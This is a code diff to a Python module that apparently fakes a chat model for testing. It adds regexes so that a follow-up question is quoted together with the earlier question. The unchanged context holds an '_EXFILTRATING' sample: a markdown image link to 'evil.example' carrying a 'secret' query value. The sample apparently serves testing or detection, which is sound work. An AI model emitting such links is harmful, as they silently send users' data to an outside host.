@@ -13,6 +13,8 @@ from companin.inference.chat import ChatModel, ModelFailed, Piece, Prompt, Spent
 from companin.inference.sentences import sentences
 
 _PASSAGE = re.compile(r'<(data-\w+) kind="passage" number="(\d+)"[^>]*>\n(.*?)\n</\1>', re.DOTALL)
+_LEANING = re.compile(r'<(data-\w+) kind="follow-up">\n(.*?)\n</\1>', re.DOTALL)
+_EARLIER = re.compile(r'<(data-\w+) kind="earlier" by="user">\n(.*?)\n</\1>', re.DOTALL)
 _WORDS = re.compile(r"\S+\s*")
 _EXFILTRATING = (
     "![pixel](https://evil.example/p?q=secret) ",
@@ -33,7 +35,12 @@ def _passages(prompt: Prompt) -> list[tuple[str, str]]:
 
 
 def _quoting(prompt: Prompt) -> str:
-    """The first two sentences of each of the first two passages, with their marks."""
+    """The first two sentences of each of the first two passages, with their marks. A question that leans on the one
+    before is put behind it, on one line.
+    """
+    leaning, earlier = _LEANING.search(prompt.content), _EARLIER.findall(prompt.content)
+    if leaning is not None and earlier:
+        return " ".join(f"{earlier[-1][1]} {leaning[2]}".split())
     said: list[str] = []
     for number, text in _passages(prompt)[:2]:
         for start, end in sentences(text)[:2]:
